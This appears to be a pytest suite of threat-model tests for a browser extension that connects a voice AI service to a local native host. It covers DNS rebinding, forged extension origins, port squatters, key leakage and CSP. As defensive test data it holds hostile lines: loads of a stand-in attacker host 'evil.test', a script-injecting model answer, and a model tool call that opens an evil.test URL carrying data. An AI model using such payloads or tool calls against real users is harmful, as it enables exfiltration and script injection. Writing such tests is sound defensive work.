"""The rows of the threat model that take a real browser to show. The gate's own rows are in `tests/host/test_gate.py`."""

from __future__ import annotations

import json
import os
import re
import shlex
import sys
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from stage import strangers
from stage.packaged import SOURCE
from stage.panel import Panel
from stage.process import wait_until
from stage.profile import KEY_CANARY
from tabtalk.practice import wire
from tabtalk.practice.scenario import Scenario

if TYPE_CHECKING:
    from stage.chromium import Chromium
    from stage.profile import Profile
    from stage.theatre import Stage
    from tabtalk.practice.threaded import ThreadedServer

DIAL = """(port, protocols) => new Promise((done) => {
  const socket = new WebSocket('ws://' + port, protocols);
  socket.onopen = () => done('open'); socket.onclose = (event) => done('closed ' + event.code);
})"""
WORDS_CANARY = "CANARYWORDS"


def talk(stage: Stage, browser: Chromium) -> Panel:
    browser.click_toolbar(browser.open(stage.web.url("/article")))
    panel = Panel(browser)
    panel.press("Start")
    panel.wait_state("listening")
    return panel


def credentials(browser: Chromium) -> dict[str, str]:
    """Fresh ones, as the offscreen document gets them."""
    asked = "chrome.runtime.sendMessage({target: 'background', type: 'connect-host', data: {}})"
    ticket: dict[str, str] = browser.offscreen().evaluate(asked)["value"]
    return ticket


@pytest.fixture
def stranger(browser: Chromium, tmp_path: Path) -> tuple[str, str]:
    """(extension id, target id of its worker)"""
    folder = strangers.make_extension(tmp_path / "stranger")
    known = browser.browser.send("Extensions.loadUnpacked", {"path": str(folder)})["id"]
    worker = browser.browser.wait_target(lambda target: target["url"].startswith(f"chrome-extension://{known}/"))
    return known, worker["targetId"]


def test_t1_a_page_cannot_open_the_link_even_with_a_token(stage: Stage, browser: Chromium) -> None:
    page = browser.open(stage.web.url("/second"))
    browser.expected += ["WebSocket connection to"]
    browser.click_toolbar(page)
    wait_until(lambda: Panel(browser).state(), "the panel")
    ticket = credentials(browser)
    protocols = json.dumps(["tabtalk.v1", "auth." + ticket["token"]])
    for address in ("127.0.0.1", "localhost"):
        opened = page.evaluate(f"({DIAL})('{address}:{ticket['port']}', {protocols})")
        assert opened == "closed 1006"


def test_t2_a_name_that_was_rebound_to_this_machine_does_not_open_the_link(
    stage: Stage, profile: Profile, live: ThreadedServer
) -> None:
    profile.use_endpoint(live.base_url, live.ca_pem)
    chromium = stage.chromium(profile, ["--host-resolver-rules=MAP evil.test 127.0.0.1"])
    chromium.expected += ["WebSocket connection to"]
    try:
        port = stage.web.origin.rpartition(":")[2]
        page = chromium.open(f"http://evil.test:{port}/article")
        chromium.click_toolbar(page)
        wait_until(lambda: Panel(chromium).state(), "the panel")
        ticket = credentials(chromium)
        protocols = json.dumps(["tabtalk.v1", "auth." + ticket["token"]])
        assert page.evaluate(f"({DIAL})('evil.test:{ticket['port']}', {protocols})") == "closed 1006"
    finally:
        chromium.end()


def test_t4_another_extension_that_forges_our_origin_does_not_get_in_without_the_token(
    stage: Stage, browser: Chromium, stranger: tuple[str, str], live: ThreadedServer
) -> None:
    talk(stage, browser)
    worker = browser.browser.attach(stranger[1])
    worker.evaluate("forge()")
    port = credentials(browser)["port"]
    for protocols in ('["tabtalk.v1"]', '["tabtalk.v1", "auth.' + "A" * 43 + '"]'):
        assert worker.evaluate(f"dial({port}, {protocols})") == "closed 1006"
    heard = len(live.recorder.chunks)
    live.recorder.wait(lambda r: len(r.chunks) > heard + 20)


def test_t13_another_extension_cannot_start_the_host(
    browser: Chromium, stranger: tuple[str, str], profile: Profile
) -> None:
    worker = browser.browser.attach(stranger[1])
    assert "forbidden" in worker.evaluate("native()")
    assert profile.hosts(f"chrome-extension://{stranger[0]}/") == []


@pytest.mark.parametrize("type", ["connect-host", "start", "get-settings", "end"])
def test_t14_another_extension_is_not_heard(browser: Chromium, stranger: tuple[str, str], type: str) -> None:
    worker = browser.browser.attach(stranger[1])
    for target in ("background", "offscreen"):
        message = json.dumps({"target": target, "type": type, "data": {}})
        assert "Receiving end does not exist" in worker.evaluate(f"knock({message})")


@pytest.mark.parametrize(
    "first_message",
    [None, '{"type":"welcome","data":{"server_token":"' + "X" * 43 + '","version":"0.1.0"}}', "{not json", "[]"],
    ids=["silent", "wrong proof", "broken", "another shape"],
)
def test_t8_a_squatter_on_the_port_is_sent_nothing(
    request: pytest.FixtureRequest, stage: Stage, profile: Profile, tmp_path: Path, first_message: str | None
) -> None:
    fake = tmp_path / "fake_host.py"
    fake.write_text(strangers.FAKE_HOST)
    with strangers.squatting(first_message) as squatter:
        # Before there is a browser: the first run's page looks for the host, too, and one that runs is used.
        profile.register_command(f"exec {shlex.quote(sys.executable)} {shlex.quote(str(fake))} {squatter.port}")
        browser: Chromium = request.getfixturevalue("browser")
        browser.click_toolbar(browser.open(stage.web.url("/article")))
        panel = Panel(browser)
        panel.press("Start")
        wait_until(lambda: squatter.visits, "a visit", 30)
        panel.wait_state("stopped", 90)
        assert squatter.received == []


def test_t6_t19_t26_key_and_words_are_nowhere_but_where_they_belong(
    stage: Stage, browser: Chromium, profile: Profile, live: ThreadedServer
) -> None:
    class Answers(Scenario):
        async def on_text(self, text: str) -> None:
            await self.answer(b"", f"You said {text}")

    live.server.scenario = Answers
    panel = talk(stage, browser)
    panel.ask(WORDS_CANARY)
    panel.wait_said(f"You said {WORDS_CANARY}")
    processes = b""
    for folder in Path("/proc").glob("[0-9]*"):
        for name in ("cmdline", "environ"):
            try:
                processes += (folder / name).read_bytes()
            except OSError:
                continue
    assert KEY_CANARY.encode() not in processes
    everywhere = {
        "panel": str(panel.wait("document.documentElement.outerHTML")),
        "storage": json.dumps(
            browser.service_worker().evaluate("Promise.all([chrome.storage.local.get(), chrome.storage.session.get()])")
        ),
        "status": json.dumps(browser.offscreen().evaluate("document.documentElement.outerHTML")),
    }
    for place, text in everywhere.items():
        assert KEY_CANARY not in text, place
    assert WORDS_CANARY not in everywhere["storage"]
    panel.press("End")
    browser.expected += ["The browser is shutting down"]
    browser.end()
    wait_until(lambda: not profile.hosts(), "the host is gone")
    for file in profile.folder.rglob("*"):
        if not file.is_file() or file == profile.key_file:
            continue
        content = file.read_bytes()
        assert KEY_CANARY.encode() not in content, file
        assert WORDS_CANARY.encode() not in content, file
        assert WORDS_CANARY.encode("utf-16-le") not in content, file


def pages(browser: Chromium) -> list[str]:
    """Addresses of all that is open, but for what comes and goes by itself: our panel, workers, and the browser's own pages."""
    urls = (str(target["url"]) for target in browser.browser.targets() if target["type"] != "worker")
    return sorted(url for url in urls if "/popup/" not in url and not url.startswith("chrome:"))


def test_t20_a_tool_call_does_nothing(stage: Stage, browser: Chromium, live: ThreadedServer) -> None:
    panel = talk(stage, browser)
    before = pages(browser)
    call = {"toolCall": {"functionCalls": [{"id": "1", "name": "open_url", "args": {"url": "https://evil.test/?d=1"}}]}}
    live.call(lambda: live.connections[-1].send(call))
    live.recorder.wait(lambda r: any(isinstance(a.event, wire.ToolResponse) for a in r.records[-1].arrivals))
    assert pages(browser) == before
    panel.wait_state("listening")


def test_t21_an_answer_is_text_and_nothing_else(stage: Stage, browser: Chromium, live: ThreadedServer) -> None:
    hostile = '<img src="http://127.0.0.1:1/x"><script>document.title="owned"</script> ![x](http://127.0.0.1:1/y) **b**'

    class Hostile(Scenario):
        async def on_text(self, text: str) -> None:
            await self.answer(b"", hostile)

    live.server.scenario = Hostile
    panel = talk(stage, browser)
    panel.ask("show me")
    panel.wait_said(hostile)
    page = panel.page
    assert page.evaluate("document.title") != "owned"
    assert page.evaluate("document.querySelectorAll('[role=log] img, [role=log] script, [role=log] a').length") == 0
    assert page.evaluate("performance.getEntriesByType('resource').every(({name}) => !name.startsWith('http'))")


def manifest() -> dict[str, object]:
    read: dict[str, object] = json.loads((SOURCE / "manifest.json").read_text())
    return read


def test_t14_t24_t28_the_manifest_allows_no_more_than_was_reviewed() -> None:
    stated = manifest()
    assert stated["permissions"] == [
        *(
            "activeTab",
            "idle",
            "nativeMessaging",
            "offscreen",
            "scripting",
            "storage",
            "tabCapture",
            "tabs",
            "webNavigation",
        )
    ]
    # Asked for when the person turns on "Follow me from tab to tab", and not before.
    assert stated["optional_host_permissions"] == ["<all_urls>"]
    assert stated["incognito"] == "not_allowed"
    assert stated["externally_connectable"] == {"ids": []}
    assert {"host_permissions", "optional_permissions", "web_accessible_resources", "content_scripts"}.isdisjoint(
        stated
    )


@pytest.mark.parametrize(
    ("attempt", "allowed"),
    [
        ("new WebSocket('ws://127.0.0.1:1')", True),
        ("new WebSocket('ws://localhost:1')", False),
        ("new WebSocket('wss://evil.test')", False),
        ("fetch('https://evil.test').catch(() => {})", False),
        ("new Image().src = 'https://evil.test/x.png'", False),
        (
            "document.head.append(Object.assign(document.createElement('script'), {src: 'https://evil.test/x.js'}))",
            False,
        ),
        ("document.body.append(Object.assign(document.createElement('iframe'), {src: 'https://evil.test/'}))", False),
    ],
)
def test_t28_the_policy_of_our_pages_lets_nothing_out(browser: Chromium, attempt: str, allowed: bool) -> None:
    page = browser.extension_page("options/options.html")
    browser.expected += ["evil.test", "localhost", "127.0.0.1:1", "Content Security Policy"]
    refused = page.evaluate(
        "new Promise((done) => { addEventListener('securitypolicyviolation', () => done(true), {once: true});"
        f" {attempt}; setTimeout(done, {700 if allowed else 15_000}, false) }})"
    )
    assert refused is not allowed


def test_t28_no_code_from_elsewhere() -> None:
    for file in SOURCE.rglob("*"):
        if file.suffix in {".js", ".html", ".css"}:
            text = file.read_text()
            assert not re.search(r"""(src|from|import)\s*\(?=?\s*["']https?:""", text), file
            assert not re.search(r"\beval\(|new Function\(|innerHTML|insertAdjacentHTML|document\.write", text), file


def test_t29_nothing_of_the_host_is_left_running_or_listening_after_the_browser(
    stage: Stage, profile: Profile, live: ThreadedServer
) -> None:
    profile.use_endpoint(live.base_url, live.ca_pem)
    chromium = stage.chromium(profile)
    talk(stage, chromium)
    [host] = profile.hosts()
    chromium.end()
    wait_until(lambda: not Path(f"/proc/{host}").exists(), "the host is gone", 5)
    assert os.getpid() != host
